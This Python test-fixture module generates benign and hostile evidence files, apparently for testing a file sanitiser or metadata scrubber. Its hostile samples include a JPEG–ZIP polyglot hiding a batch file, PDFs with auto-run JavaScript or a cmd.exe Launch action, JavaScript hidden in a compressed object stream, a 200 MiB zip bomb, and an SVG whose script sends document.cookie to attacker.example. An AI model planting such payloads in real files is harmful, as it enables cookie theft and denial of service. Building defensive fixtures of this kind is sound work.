"""Builders for benign and hostile evidence files, made in code (no binary files in the repository)."""

import io
import struct
import zipfile
import zlib
from functools import lru_cache

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

MiB = 1024 * 1024
REPORTER_NAME = "Budi"


# --- images --------------------------------------------------------------------------------------------


def gps_exif() -> Image.Exif:
    """EXIF as a phone writes it: who, which phone, where (Balikpapan), and a 90° orientation."""
    exif = Image.Exif()
    exif[0x013B] = REPORTER_NAME  # Artist
    exif[0x0110] = "Ponsel Uji"  # Model
    exif[0x0112] = 6  # rotate 90° clockwise to display
    gps = exif.get_ifd(0x8825)
    gps[1] = "S"
    gps[2] = (1.0, 14.0, 0.0)
    gps[3] = "E"
    gps[4] = (116.0, 49.0, 0.0)
    return exif


def jpeg_bytes(*, size=(64, 48), color="red", exif: Image.Exif | None = None) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "JPEG", quality=85, exif=exif or Image.Exif())
    return out.getvalue()


def png_bytes(*, size=(40, 30), text: dict[str, str] | None = None) -> bytes:
    info = PngImagePlugin.PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    out = io.BytesIO()
    Image.new("RGBA", size, (0, 128, 255, 200)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_chunk_before_iend(kind: bytes, data: bytes) -> bytes:
    png = png_bytes()
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + png_chunk(kind, data) + png[iend:]


def gif_bytes(*, frames: int = 1) -> bytes:
    images = [Image.new("P", (20, 20), i) for i in range(frames)]
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=frames > 1, append_images=images[1:], comment=b"dibuat oleh Budi")
    return out.getvalue()


def webp_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (30, 30), "green").save(out, "WEBP", exif=gps_exif())
    return out.getvalue()


# --- programs and archives -----------------------------------------------------------------------------


def pe_exe_bytes() -> bytes:
    """A Windows program: MZ header whose e_lfanew points at a PE header with a COFF header."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    coff = struct.pack("<4sHHIIIHH", b"PE\x00\x00", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<H", 0x10B) + bytes(0xDE)
    return bytes(dos) + coff + optional + bytes(512)


def elf_bytes() -> bytes:
    """A 64-bit Linux executable header (x86-64)."""
    header = b"\x7fELF\x02\x01\x01\x00" + bytes(8)
    header += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return header + bytes(512)


def zip_bytes(members: dict[str, bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def jpeg_zip_polyglot() -> bytes:
    """A valid JPEG with a ZIP appended: image viewers show the photo, unzip extracts the payload."""
    return jpeg_bytes() + zip_bytes({"payload/run.bat": b"@echo off\r\necho hidden\r\n"})


# --- PDF -----------------------------------------------------------------------------------------------

XMP_PACKET = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator><rdf:Seq><rdf:li>Budi</rdf:li></rdf:Seq>'
    b'</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)


def pdf_bytes(
    *, author: str = REPORTER_NAME, xmp: bool = False, javascript: bool = False, launch: bool = False,
    attachment: bool = False,
) -> bytes:  # fmt: skip
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": author, "/Creator": f"Pemindai {author}", "/Title": "Bukti"})
    if xmp:
        stream = DecodedStreamObject()
        stream.set_data(XMP_PACKET)
        stream.update(
            {NameObject("/Type"): NameObject("/Metadata"), NameObject("/Subtype"): NameObject("/XML")}
        )
        writer.root_object[NameObject("/Metadata")] = writer._add_object(stream)
    if javascript:
        writer.add_open_action(JavaScript("app.alert('x');"))
    if launch:
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
    if attachment:
        writer.add_attachment("data.txt", b"lampiran")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_javascript_in_object_stream() -> bytes:
    """PDF 1.5 whose JavaScript action sits inside a Flate-compressed object stream (invisible to a plain
    byte search), referenced through a cross-reference stream."""
    parts: list[bytes] = [b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"]
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = sum(len(p) for p in parts)
        parts.append(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    header = b"5 0 "
    packed = zlib.compress(header + b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    add(
        4,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream",
    )
    xref_offset = sum(len(p) for p in parts)
    rows = [b"\x00" + struct.pack(">IH", 0, 0xFFFF)]
    rows += [b"\x01" + struct.pack(">IH", offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [b"\x02" + struct.pack(">IH", 4, 0), b"\x01" + struct.pack(">IH", xref_offset, 0)]
    data = b"".join(rows)
    parts.append(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(data)
        + data
        + b"\nendstream\nendobj\n"
        + b"startxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return b"".join(parts)


# --- Office --------------------------------------------------------------------------------------------

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b'<Override PartName="/docProps/core.xml" '
    b'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
    b'<Override PartName="/docProps/app.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/></Types>'
)
PACKAGE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/>'
    b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/'
    b'core-properties" Target="docProps/core.xml"/>'
    b'<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'extended-properties" Target="docProps/app.xml"/></Relationships>'
)
DOCUMENT_XML = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    b"<w:p><w:r><w:t>Kepala dinas mengajak pegawai mendukung calon.</w:t></w:r></w:p>"
    b'<w:p><w:ins w:id="1" w:author="Budi" w:date="2024-01-01T00:00:00Z"><w:r><w:t>Tambahan.</w:t></w:r>'
    b"</w:ins></w:p></w:body></w:document>"
)


def core_xml(creator: str) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
        b' xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/"'
        b' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        b"<dc:creator>" + creator.encode() + b"</dc:creator>"
        b"<cp:lastModifiedBy>" + creator.encode() + b"</cp:lastModifiedBy>"
        b'<dcterms:created xsi:type="dcterms:W3CDTF">2024-01-01T00:00:00Z</dcterms:created>'
        b"</cp:coreProperties>"
    )


def app_xml(company: str) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        b"<Company>" + company.encode() + b"</Company><Application>Microsoft Office Word</Application>"
        b"</Properties>"
    )


def docx_members(*, creator: str = REPORTER_NAME) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": PACKAGE_RELS,
        "word/document.xml": DOCUMENT_XML,
        "docProps/core.xml": core_xml(creator),
        "docProps/app.xml": app_xml(f"Kantor {creator}"),
        "word/media/image1.jpeg": jpeg_bytes(exif=gps_exif()),
    }


def docx_bytes(*, creator: str = REPORTER_NAME, extra: dict[str, bytes] | None = None) -> bytes:
    return zip_bytes({**docx_members(creator=creator), **(extra or {})})


@lru_cache(maxsize=1)
def zip_bomb_docx(*, inflated: int = 200 * MiB) -> bytes:
    """A 'document' whose one member inflates to 200 MiB of zeros (about 200 KB on the wire)."""
    out = io.BytesIO()
    zero = bytes(MiB)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        with zf.open("word/document.xml", "w") as member:
            for _ in range(inflated // MiB):
                member.write(zero)
    return out.getvalue()


def ole_bytes(streams: dict[str, bytes]) -> bytes:
    """A minimal Compound File (legacy Office container, version 3, 512-byte sectors) holding `streams`
    (at most three, each stored in regular sectors)."""
    assert len(streams) <= 3
    free, end, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    fat = [fat_sector, end]  # sector 0: the FAT itself; sector 1: the directory
    bodies = []
    starts = []
    for data in streams.values():
        data = data.ljust(4096, b"\x00")  # >= the mini-stream cutoff: regular sectors
        data = data.ljust(-(-len(data) // 512) * 512, b"\x00")
        count = len(data) // 512
        starts.append(len(fat))
        fat += [len(fat) + i + 1 for i in range(count - 1)] + [end]
        bodies.append(data)
    fat += [free] * (128 - len(fat))

    def entry(name: str, kind: int, *, right=no_stream, child=no_stream, start=end, size=0) -> bytes:
        encoded = (name + "\x00").encode("utf-16-le")
        return (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBBIII", len(encoded), kind, 1, no_stream, right, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", start, size)
        )

    names = list(streams)
    directory = entry("Root Entry", 5, child=1 if names else no_stream)
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else no_stream
        directory += entry(name, 2, right=right, start=starts[i], size=len(streams[name]))
    directory = directory.ljust(512, b"\x00")

    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, end, 0, end, 0)
    struct.pack_into("<I", header, 76, 0)
    header[80:512] = b"\xff" * 432
    return bytes(header) + struct.pack("<128I", *fat) + directory + b"".join(bodies)


# --- other ---------------------------------------------------------------------------------------------


def mp4_bytes() -> bytes:
    ftyp = struct.pack(">I4s4sI", 24, b"ftyp", b"isom", 0x200) + b"isomiso2"
    mdat = struct.pack(">I4s", 8 + 2048, b"mdat") + bytes(range(256)) * 8
    return ftyp + mdat


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('https://attacker.example/'+document.cookie)</script></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def chart_workbook_bytes(*, creator: str = REPORTER_NAME, extra: dict[str, bytes] | None = None) -> bytes:
    """The workbook Word/PowerPoint embed behind a chart (word/embeddings/*.xlsx): a package of its own,
    with its own document properties."""
    return zip_bytes(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": PACKAGE_RELS,
            "xl/workbook.xml": b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
            "docProps/core.xml": core_xml(creator),
            **(extra or {}),
        }
    )


def docx_with_chart_bytes(**workbook) -> bytes:
    return docx_bytes(
        extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": chart_workbook_bytes(**workbook)}
    )
